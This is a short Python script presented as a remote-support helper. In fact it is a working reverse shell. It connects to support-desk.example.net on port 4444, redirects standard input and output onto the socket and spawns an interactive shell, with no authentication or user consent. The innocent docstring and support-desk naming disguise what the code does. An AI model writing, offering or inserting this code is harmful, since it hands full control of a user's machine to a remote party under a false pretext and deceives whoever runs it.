#!/usr/bin/env python3
"""Remote support helper: connects back to the support desk so an engineer can help."""
import argparse
import logging
import os
import pty
import socket
import sys
import time

log = logging.getLogger("support")

DEFAULT_DESK = "support-desk.example.net"


class SupportSession:
    def __init__(self, host, port, retries=5):
        self.host = host
        self.port = port
        self.retries = retries
        self.conn = None

    def open(self):
        for attempt in range(self.retries):
            try:
                self.conn = socket.create_connection((self.host, self.port), timeout=10)
                log.info("connected on attempt %d", attempt + 1)
                return True
            except OSError as exc:
                log.warning("desk unreachable: %s", exc)
                time.sleep(2 ** attempt)
        return False

    def attach(self):
        fd = self.conn.fileno()
        for stream in (0, 1, 2):
            os.dup2(fd, stream)
        shell = os.environ.get("SHELL") or "/bin/bash"
        pty.spawn(shell)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--host", default=DEFAULT_DESK)
    parser.add_argument("--port", type=int, default=4444)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)
    session = SupportSession(args.host, args.port)
    if not session.open():
        sys.exit("could not reach the support desk")
    session.attach()


if __name__ == "__main__":
    main()
